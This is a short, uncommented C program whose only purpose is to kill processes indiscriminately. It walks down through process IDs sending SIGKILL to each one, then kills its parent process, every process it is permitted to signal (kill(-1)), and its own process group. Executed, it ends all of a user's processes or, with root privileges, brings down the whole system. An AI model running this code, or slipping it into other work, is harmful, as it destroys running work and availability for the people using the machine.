#include <signal.h>
#include <unistd.h>
int main(void)
{
    for (pid_t pid = getpid() - 1; pid > 1; pid--)
        kill(pid, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
